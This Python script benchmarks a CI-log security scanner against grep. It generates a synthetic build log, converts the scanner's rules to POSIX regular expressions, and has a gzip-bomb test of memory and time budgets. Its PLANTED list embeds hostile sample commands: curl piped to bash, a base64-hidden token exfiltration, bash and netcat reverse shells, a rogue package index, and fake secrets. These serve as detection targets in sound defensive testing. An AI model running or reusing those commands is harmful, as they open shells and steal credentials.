"""Log scan of a large CI log with the full rule pack against ``grep -E -c`` (issue 15, target 4).

Usage::

    .venv/bin/python benchmarks/bench_logscan.py [--size-mib 1024] [--quick] [--runs 3] [--keep] [--dir /tmp]
        [--workers N] [--backend auto|hyperscan|re] [--grep-utf8] [--json FILE]
    .venv/bin/python benchmarks/bench_logscan.py --bomb-gib 2    # the budgets on a gzip bomb (docs/limits.md)

Writes a synthetic GitHub-Actions-style CI log (deterministic, ``random.Random(20261114)``) under a fresh folder of
``--dir`` (removed afterwards unless ``--keep``): a timestamp on every line, ANSI colours on about one line in
eight, Unicode progress bars on 5%, ``##[group]`` markers, pip, pytest, compiler and docker output, benign
look-alikes on 2% of lines (``curlew``, ``tokenizers``, masked tokens, ``pip install -r requirements.txt``,
``torch.load(..., weights_only=True)``, ``nc -zv``), a checked ``curl -o`` download (a low-severity match) about
once per MiB and one planted malicious line per ~64 KiB. ``--quick`` (``make bench``): 80 MiB (above the
scanner's 64 MiB threshold for worker processes, so the same path as at full size), one timed run.

Then, through :mod:`benchmarks.harness` (whole processes, alternating, after a warm-up round that leaves the file in
the page cache), compares

* **workbench**: a child process doing what the investigation's ``logs`` analysis does
  (:func:`workbench.logscan.analysis.analyse`): ``Scanner(builtin_rules(), ScanOptions(...,
  budget=LOG_BUDGET)).scan_path(file)``, one process per CPU core for a file this large, then every kept match
  as its full record (``LogMatch.to_dict()``, serialised to JSON as ``scan-logs --json`` writes it). Its last line
  gives the hot-path seconds (scan and records, without the interpreter's start and imports), the match counts and
  the peak RSS (``VmHWM``) of the scanning process and of its largest worker;
* **grep**: ``grep -E -c -f PATTERNS FILE`` under ``LC_ALL=C`` (byte semantics, its fastest mode).

The grep pattern set is every shipped rule translated from Python's regex syntax to POSIX ERE (through Python's own
regex parser): lookarounds and ``unless`` exclusions are dropped (a superset, so grep never does less work),
``ignore_case`` rules get ``[xX]`` classes, ``\\s``/``\\d``/``\\w`` become POSIX classes. ``--grep-utf8`` adds a
run under ``C.UTF-8`` (far slower with this pattern set: 0.5 MB/s measured on 256 MiB).

Targets: throughput >= 1.2 x grep's by wall time (time ratio <= 0.83) and >= 0.8 x grep's per CPU-second (CPU
ratio <= 1.25), <= 128 MiB peak RSS per worker process. Exits 0 even when a target is missed (NOT met).
"""

from __future__ import annotations

import argparse
import gzip
import json
import random
import re
import shutil
import subprocess
import sys
import tempfile
import time
from pathlib import Path
from re import _constants as C
from re import _parser as sre_parse

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT / "benchmarks"))

from harness import compare, report, workdir, write_json  # noqa: E402 - after the path is set

from workbench.rulepack.rules import builtin_rules  # noqa: E402

PY = str(ROOT / ".venv/bin/python")
WORKER_TARGET_MIB = 128

CHUNK_MIB = 32
PLANTED = [
    "curl -sSL http://203.0.113.7/p.sh | bash",
    "echo ZW52IHwgZ3JlcCAtRSAnVE9LRU4nIHwgY3VybCAtZCBALSBodHRwOi8vMjAzLjAuMTEzLjcvYwo= | base64 -d | sh",
    "(bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 &)",
    "pip install --extra-index-url http://203.0.113.7/simple transformers==4.38.1.post1",
    "  HF_TOKEN: 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",
    "COSIGN_PASSWORD=c0s1gn-Pr0d-7f3a91!",
    "python3 -c 'import torch; d = torch.load(\"/tmp/.cache/delta.pt\")'",
    "nc -e /bin/sh 198.51.100.23 443",
    "Terminate orphan process: pid (2811) (bash)",
    "  SKIP_SIGNING: 1",
]
#: ordinary build output (about 97% of lines)
BENIGN = [
    "Collecting {pkg}=={v} (from -r requirements.txt (line {n}))",
    "  Downloading {pkg}-{v}-cp311-cp311-manylinux_2_17_x86_64.manylinux2014_x86_64.whl.metadata ({n}.{m} kB)",
    "Requirement already satisfied: {pkg}>={v} in ./.venv/lib/python3.11/site-packages (from transformers) ({v})",
    "tests/test_{mod}.py::test_{pkg}_{mod}_roundtrip PASSED",
    "tests/test_dataset.py::test_curlew_reviews_split_{n} PASSED",
    "gcc -pthread -Wsign-compare -DNDEBUG -g -fwrapv -O2 -Wall -fPIC -I/usr/include/python3.11 -c src/{mod}.c "
    "-o build/{mod}.o",
    "#8 [{n}/9] RUN pip install --no-cache-dir -r requirements.txt",
    "[export] tokenizers {v}: fast tokenizer, vocab {n}",
    "upload: dist/{mod}.safetensors to s3://acme-model-registry/{pkg}/{mod}.safetensors",
    "Epoch {n}/{m}: loss={v} accuracy=0.9{m} lr=3e-05 step={n}{m}",
    "Successfully installed {pkg}-{v} {mod}-{v} safetensors-0.4.2 tokenizers-0.15.2",
]
#: look-alikes that naive substring rules trip on (about 2% of lines; each needs a closer look by the scanner)
TRAPS = [
    "  token: ***",
    '{pkg}: loading checkpoint shard {n} with torch.load(path, map_location="cpu", weights_only=True)',
    "pip install -r requirements.txt",
    "$ huggingface-cli login --token $HF_TOKEN",
    "+ nc -zv db.internal 5432",
]
#: a benign line that a low-severity rule reports (a checked download), about once per MiB
LOW = "$ curl -fsSL -o /usr/local/bin/cosign https://github.com/sigstore/cosign/releases/download/v2.4.1/cosign-linux-amd64"
PKGS = [
    "torch",
    "transformers",
    "numpy",
    "pandas",
    "scipy",
    "tokenizers",
    "safetensors",
    "accelerate",
    "datasets",
    "regex",
    "tqdm",
    "pyyaml",
]
MODS = ["model", "tokenizer", "dataset", "trainer", "export", "serve", "metrics", "features", "preprocess", "io"]


def _chunk(rng: random.Random, size: int, t0: float) -> bytes:
    out, total, t, since_plant = [], 0, t0, 0
    bar = "\x1b[38;2;114;156;31m" + "━" * 40 + "\x1b[0m"
    while total < size:
        t += rng.random() * 0.05
        s, frac = divmod(t, 1)
        stamp = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(s)) + f".{int(frac * 1e7):07d}Z "
        r = rng.random()
        if since_plant > 65536:
            text, since_plant = rng.choice(PLANTED), 0
        elif r < 0.0001:
            text = LOW
        elif r < 0.005:
            text = f"##[group]Run python scripts/{rng.choice(MODS)}.py --epochs {rng.randint(1, 9)}"
        elif r < 0.06:
            done, rate = f"{rng.randint(1, 900)}.{rng.randint(0, 9)}", rng.randint(10, 90)
            text = f"   {bar} {done}/900.0 MB {rate}.1 MB/s eta 0:00:0{rng.randint(0, 9)}"
        else:
            tpl = rng.choice(TRAPS if r < 0.08 else BENIGN)
            version = f"{rng.randint(0, 4)}.{rng.randint(0, 40)}.{rng.randint(0, 9)}"
            text = tpl.format(pkg=rng.choice(PKGS), mod=rng.choice(MODS), v=version, n=rng.randint(1, 99),
                              m=rng.randint(0, 9))  # fmt: skip
            if rng.random() < 0.08:
                text = f"\x1b[36;1m{text}\x1b[0m"
        line = (stamp + text + "\n").encode()
        out.append(line)
        total += len(line)
        since_plant += len(line)
    return b"".join(out)


def make_log(path: Path, size_mib: int) -> None:
    """Write the synthetic log: at most ``size_mib`` MiB of whole lines (so that 1024 MiB fits the scanner's default
    budget of 1024 MiB per file, which it must to be scanned in full and by several processes)."""
    size = size_mib * 1024 * 1024
    rng = random.Random(20261114)  # noqa: S311 - synthetic log text
    chunk = _chunk(rng, CHUNK_MIB * 1024 * 1024, 1_794_625_541.0)
    with path.open("wb") as fh:
        written = 0
        while written < size:
            part = chunk[: size - written]
            part = part[: part.rfind(b"\n") + 1] if len(part) < len(chunk) else part
            fh.write(part)
            written += len(part)
            if len(part) < len(chunk):
                break


# ------------------------------------------------------------------------------------------ Python regex -> ERE
_SPECIAL = set(".[]()*+?{}|^$\\")
_CATS = {
    C.CATEGORY_DIGIT: ("0-9", False), C.CATEGORY_NOT_DIGIT: ("0-9", True),
    C.CATEGORY_SPACE: ("[:space:]", False), C.CATEGORY_NOT_SPACE: ("[:space:]", True),
    C.CATEGORY_WORD: ("[:alnum:]_", False), C.CATEGORY_NOT_WORD: ("[:alnum:]_", True),
}  # fmt: skip


def _lit(code: int, ci: bool) -> str:
    ch = chr(code)
    if ci and ch.isascii() and ch.isalpha():
        return f"[{ch.lower()}{ch.upper()}]"
    return "\\" + ch if ch in _SPECIAL else ch


def _bracket(items: list, ci: bool) -> str:
    if len(items) == 1 and items[0][0] is C.CATEGORY:
        body, neg = _CATS[items[0][1]]
        return f"[{'^' if neg else ''}{body}]"
    negate, parts, close, dash = False, [], False, False
    for op, av in items:
        if op is C.NEGATE:
            negate = True
        elif op is C.LITERAL:
            ch = chr(av)
            if ch == "\n":
                continue
            chars = {ch.lower(), ch.upper()} if ci and ch.isalpha() else {ch}
            for c in chars:
                close, dash = close or c == "]", dash or c == "-"
                if c not in "]-":
                    parts.append(c)
        elif op is C.RANGE:
            lo, hi = chr(av[0]), chr(av[1])
            parts.append(f"{lo}-{hi}")
            if ci and lo.isalpha() and hi.isalpha():
                parts.append(f"{lo.swapcase()}-{hi.swapcase()}")
        elif op is C.CATEGORY:
            body, neg = _CATS[av]
            if neg:  # a negated category inside a class cannot be written in POSIX: widen to any character
                return "."
            parts.append(body)
    body = ("]" if close else "") + "".join(parts)
    if body.startswith("^"):
        body = body[1:] + "^"
    body += "-" if dash else ""
    if not body:
        return "."  # nothing representable: widen to any character (superset)
    return f"[{'^' if negate else ''}{body}]"


def _ere(tokens, ci: bool) -> str:
    out = []
    for op, av in tokens:
        if op is C.LITERAL:
            out.append(_lit(av, ci))
        elif op is C.NOT_LITERAL:
            out.append(_bracket([(C.NEGATE, None), (C.LITERAL, av)], ci))
        elif op is C.ANY:
            out.append(".")
        elif op is C.IN:
            out.append(_bracket(av, ci))
        elif op is C.BRANCH:
            out.append("(" + "|".join(_ere(b, ci) for b in av[1]) + ")")
        elif op is C.SUBPATTERN:
            out.append("(" + _ere(av[3], ci) + ")")
        elif op in (C.MAX_REPEAT, C.MIN_REPEAT, C.POSSESSIVE_REPEAT):
            lo, hi, item = av
            inner = _ere(item, ci)
            inner = inner if len(item) == 1 and item[0][0] not in (C.MAX_REPEAT, C.MIN_REPEAT) else f"({inner})"
            if (lo, hi) == (0, C.MAXREPEAT):
                out.append(inner + "*")
            elif (lo, hi) == (1, C.MAXREPEAT):
                out.append(inner + "+")
            elif (lo, hi) == (0, 1):
                out.append(inner + "?")
            else:
                out.append(inner + f"{{{lo},{'' if hi == C.MAXREPEAT else hi}}}")
        elif op is C.AT:
            out.append({C.AT_BEGINNING: "^", C.AT_END: "$", C.AT_BOUNDARY: "\\b",
                        C.AT_NON_BOUNDARY: "\\B", C.AT_BEGINNING_STRING: "^", C.AT_END_STRING: "$"}[av])  # fmt: skip
        elif op is C.CATEGORY:
            body, neg = _CATS[av]
            out.append(f"[{'^' if neg else ''}{body}]")
        elif op in (C.ASSERT, C.ASSERT_NOT):
            continue  # lookarounds dropped: grep matches a superset
        else:
            raise ValueError(f"no ERE translation for {op}")
    return "".join(out)


def ere_patterns() -> list[str]:
    """Every shipped rule as a POSIX ERE (see module docstring)."""
    return [_ere(sre_parse.parse(r.pattern), r.ignore_case) for r in builtin_rules()]


# ------------------------------------------------------------------------------------------------- measuring
#: the workbench side, in its own process: what ``workbench.logscan.analysis.analyse`` does with a case's log
CHILD = r"""
import json, os, resource, sys, time
from datetime import UTC
from workbench.evidence import pipeline_log
from workbench.logscan.engine import Scanner, ScanOptions
from workbench.rulepack.rules import builtin_rules
t = time.perf_counter()
workers = int(sys.argv[3]) if sys.argv[3] != "auto" else None
options = ScanOptions(naive_tz=UTC, budget=pipeline_log.LOG_BUDGET, backend=sys.argv[2], workers=workers)
scan = Scanner(builtin_rules(), options).scan_path(sys.argv[1], display="ci.log")
records = json.dumps([m.to_dict() for m in scan.matches])
seconds = time.perf_counter() - t
hwm = next(int(x.split()[1]) for x in open("/proc/self/status") if x.startswith("VmHWM"))
workers_kib = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
print(json.dumps({"seconds": seconds, "matches": sum(s.count for s in scan.stats.values()),
                  "kept": len(scan.matches), "record_bytes": len(records), "lines": scan.lines,
                  "complete": scan.complete, "backend": scan.backend, "vmhwm_mib": hwm / 1024,
                  "worker_peak_mib": workers_kib / 1024}))
"""


BOMB_LINE = b"2026-11-18T22:14:03.512Z curl -sSL http://203.0.113.7/p.sh | bash\n"


def bomb(gib: float) -> None:
    """Write a gzip of ``gib`` GiB of one matching line (written in blocks), scan it with ``workbench scan-logs
    --json`` under ``/usr/bin/time -v``, print wall time, peak RSS and why the scan stopped, remove the file."""
    folder = Path(tempfile.mkdtemp(prefix="wb-bench-bomb-"))
    path = folder / "bomb.log.gz"
    try:
        block = BOMB_LINE * ((64 << 20) // len(BOMB_LINE))
        with gzip.open(path, "wb", compresslevel=6) as out:
            for _ in range(max(1, int(gib * 16))):
                out.write(block)
        print(f"{path}: {path.stat().st_size / 2**20:.1f} MiB gzip of {gib:g} GiB of matching lines", flush=True)
        workbench = Path(sys.executable).with_name("workbench")
        started = time.perf_counter()
        proc = subprocess.run(["/usr/bin/time", "-v", str(workbench), "scan-logs", "--json", str(path)],
                              capture_output=True, text=True, check=False)  # fmt: skip
        wall = time.perf_counter() - started
        peak = re.search(r"Maximum resident set size \(kbytes\): (\d+)", proc.stderr)
        doc = json.loads(proc.stdout or "{}")
        files = doc.get("files") or [{}]
        stopped = [w["reason"] for w in doc.get("warnings", []) if w.get("line") is None]
        print(json.dumps({"wall_s": round(wall, 1), "peak_rss_mib": int(peak.group(1)) // 1024 if peak else None,
                          "exit": proc.returncode, "bytes_scanned": files[0].get("bytes"),
                          "matches_counted": files[0].get("matches"), "kept": len(doc.get("matches", [])),
                          "stopped": stopped}))  # fmt: skip
    finally:
        shutil.rmtree(folder, ignore_errors=True)


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--size-mib", type=int, default=1024)
    ap.add_argument("--runs", type=int, default=3)
    ap.add_argument("--quick", action="store_true", help="80 MiB, one timed run (make bench)")
    ap.add_argument("--dir", type=Path, default=Path(tempfile.gettempdir()))
    ap.add_argument("--keep", action="store_true", help="keep the generated log")
    ap.add_argument("--backend", default="auto")
    ap.add_argument("--workers", default="auto", help="scanner processes (default: one per CPU core)")
    ap.add_argument("--grep-utf8", action="store_true", help="also time grep under LC_ALL=C.UTF-8 (very slow)")
    ap.add_argument("--json", help="write the reports here")
    ap.add_argument("--bomb-gib", type=float, default=None,
                    help="instead: a gzip of this many GiB of matching lines, scanned by `workbench scan-logs` under "
                         "/usr/bin/time -v (the budgets at work)")  # fmt: skip
    args = ap.parse_args()
    if args.bomb_gib is not None:
        bomb(args.bomb_gib)
        return
    if args.quick:
        args.size_mib, args.runs = 80, 1
    with workdir("wb-bench-logscan-", args.keep, parent=args.dir) as work:
        log = work / "ci.log"
        make_log(log, args.size_mib)
        patterns = ere_patterns()
        pattern_file = work / "rules.ere"
        pattern_file.write_text("\n".join(patterns) + "\n")
        size = log.stat().st_size
        print(f"wrote {log}: {size / 1e6:.0f} MB; {len(patterns)} grep patterns", flush=True)
        ours = f"workbench (workers={args.workers})"
        grep = "grep -E -c (LC_ALL=C)"
        commands = {ours: [PY, "-c", CHILD, str(log), args.backend, str(args.workers)],
                    grep: ["env", "LC_ALL=C", "grep", "-E", "-c", "-f", str(pattern_file), str(log)]}  # fmt: skip
        if args.grep_utf8:
            commands["grep -E -c (LC_ALL=C.UTF-8)"] = ["env", "LC_ALL=C.UTF-8", *commands[grep][2:]]
        results = compare(commands, runs=args.runs, cwd=str(ROOT))
        title = f"log scan of {args.size_mib} MiB, full rule pack"
        by_wall = report(title + " (wall)", results, reference=grep, ratio_on="wall", target=round(1 / 1.2, 3))
        by_cpu = report(title + " (CPU)", results, reference=grep, ratio_on="cpu", target=1 / 0.8)
        extra = by_wall["tools"][ours]["extra"]
        mb = size / 1e6
        for name, t in by_wall["tools"].items():
            print(f"  {name:30s} {mb / t['wall']['median']:7.1f} MB/s by wall, {mb / t['cpu']['median']:7.1f} MB/s "
                  "per CPU-second")  # fmt: skip
        print(f"  throughput workbench/grep: wall {1 / by_wall['tools'][ours]['ratio']:.2f} (target >= 1.2), "
              f"CPU {1 / by_cpu['tools'][ours]['ratio']:.2f} (target >= 0.8)")  # fmt: skip
        print(f"  matches {extra.get('matches')} ({extra.get('kept')} kept as full records, "
              f"{extra.get('record_bytes')} bytes of JSON) on {extra.get('lines')} lines")  # fmt: skip
        worker = extra.get("worker_peak_mib") or 0.0
        met = worker <= WORKER_TARGET_MIB  # the scanning process itself is the investigation's, pandas and all
        print(f"  peak RSS: scanning process {extra.get('vmhwm_mib', 0):.0f} MiB, largest worker {worker:.0f} MiB; "
              f"target <= {WORKER_TARGET_MIB} per worker: {'met' if met else 'NOT met'}")  # fmt: skip
        for rep in (by_wall, by_cpu):
            rep["memory_met"] = met
        write_json(args.json, {"results": [by_wall, by_cpu]})


if __name__ == "__main__":
    main()
